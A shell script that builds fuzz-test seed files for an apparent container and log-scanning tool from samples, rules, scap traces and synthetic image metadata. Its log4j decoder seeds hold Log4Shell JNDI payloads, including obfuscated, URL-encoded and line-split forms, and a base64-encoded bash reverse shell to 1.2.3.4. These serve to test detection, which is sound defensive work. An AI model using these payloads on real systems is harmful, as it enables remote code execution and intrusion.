#!/bin/sh
# Fill fuzz/corpus/<target>/ with seeds from the samples (not committed: corpus/ is ignored).
set -eu
cd "$(dirname "$0")"
S=../samples
c() { mkdir -p "corpus/$1"; }
for t in layer image inspect captures log_stream log4j_decoders rules_sigma data_root scap; do c "$t"; done
cp seed/* corpus/ 2>/dev/null || true
for d in log4shell dvwa; do
  cp "$S/$d/inspect.json" "corpus/inspect/$d.json"
  { printf '\003'; cat "$S/$d/top.txt"; } > "corpus/captures/top-$d"
  { printf '\000'; cat "$S/$d/stats.txt"; } > "corpus/captures/stats-$d"
  { printf '\001'; cat "$S/$d/diff.txt"; } > "corpus/captures/diff-$d"
  head -c 65536 "$S/$d/export.tar" > "corpus/layer/$d.tar"
done
{ printf '\002'; cat "$S/dvwa/docker-ps.txt"; } > corpus/captures/ps-dvwa
# sysdig / Falco captures from ../shared (gzip: the target looks through it), when present.
for f in ../../shared/fixtures/falco/test/trace_files/*.scap ../../shared/fixtures/libs/test/libsinsp_e2e/resources/captures/*.scap; do
  [ -f "$f" ] && cp "$f" "corpus/scap/$(basename "$f")"
done
{ printf '\000'; head -c 8192 "$S/log4shell/docker-logs-t.txt"; } > corpus/log_stream/text
{ printf '\001'; head -c 8192 "$S/log4shell/container.log"; } > corpus/log_stream/json-file
printf '\0022024-01-01T00:00:00.000000000Z stdout P ${jndi:ld\n2024-01-01T00:00:00.1Z stdout F ap://x/a}\n' > corpus/log_stream/cri
printf '\003__REALTIME_TIMESTAMP=1700000000000000\nMESSAGE=${jndi:ldap://e/a}\nPRIORITY=6\n\n' > corpus/log_stream/journal
printf '${${lower:j}${::-n}di:${env:X:-l}dap://evil.example/a}' > corpus/log4j_decoders/nested
printf 'GET /?q=%%24%%7Bjndi%%3Aldap%%3A%%2F%%2Fe%%2Fa%%7D HTTP/1.1' > corpus/log4j_decoders/url
printf 'bash -c {echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8xLjIuMy40LzQ0NDQgMD4mMQ==}|{base64,-d}|{bash,-i}' > corpus/log4j_decoders/b64
printf '1.2.3.4 - - [10/Dec/2021:10:00:00 +0000] "GET /Basic/Command/Base64/aWQ= HTTP/1.1" 200 1 "-" "&#36;&#123;jndi}"' > corpus/log4j_decoders/access
{ printf '\000'; head -c 16384 ../src/logscan/rules/builtin.rules; } > corpus/rules_sigma/rules
{ printf '\001'; head -c 16384 ../src/logscan/sigma/bundled.yml; } > corpus/rules_sigma/sigma
python3 - <<'PY'
import json
m=[{"Config":"c.json","RepoTags":["a:1"],"Layers":["l/layer.tar"]}]
cfg={"architecture":"amd64","os":"linux","rootfs":{"type":"layers","diff_ids":["sha256:"+"0"*64]},"history":[{"created":"2024-01-01T00:00:00Z","created_by":"/bin/sh -c #(nop) ADD file"}],"config":{"Env":["A=1"],"Cmd":["sh"]}}
open("corpus/image/legacy","w").write("\0"+json.dumps(m)+"\n--\n"+json.dumps(cfg)+"\n--\n")
idx={"schemaVersion":2,"manifests":[{"mediaType":"application/vnd.oci.image.manifest.v1+json","digest":"sha256:"+"1"*64,"size":2}]}
open("corpus/image/oci","w").write("\0"+json.dumps(m)+"\n--\n"+json.dumps(cfg)+"\n--\n\n--\n"+json.dumps(idx))
open("corpus/image/config","w").write("\1"+json.dumps(cfg))
open("corpus/data_root/repositories","wb").write(b"\x00"+json.dumps({"Repositories":{"a":{"a:1":"sha256:"+"0"*64}}}).encode())
open("corpus/data_root/imagedb","wb").write(b"\x01"+json.dumps(cfg).encode())
open("corpus/data_root/config","wb").write(b"\x04"+json.dumps({"ID":"0"*64,"Name":"/x","Image":"sha256:"+"0"*64,"State":{"Running":True},"Config":{"Cmd":["sh"]},"Driver":"overlay2"}).encode())
open("corpus/data_root/podman","wb").write(b"\x06"+json.dumps([{"id":"0"*64,"names":["x"],"image":"1"*64,"layer":"2"*64,"created":"2024-01-01T00:00:00Z"}]).encode())
PY
# A real bbolt file (Docker's volume database), as containerd's meta.db (selector 9).
t=$(mktemp -d)
zstd -dc "$S/real/docker/dataroot.tar.zst" | tar x -C "$t" var/lib/docker/volumes/metadata.db
{ printf '\011'; cat "$t/var/lib/docker/volumes/metadata.db"; } > corpus/data_root/bolt
rm -rf "$t"
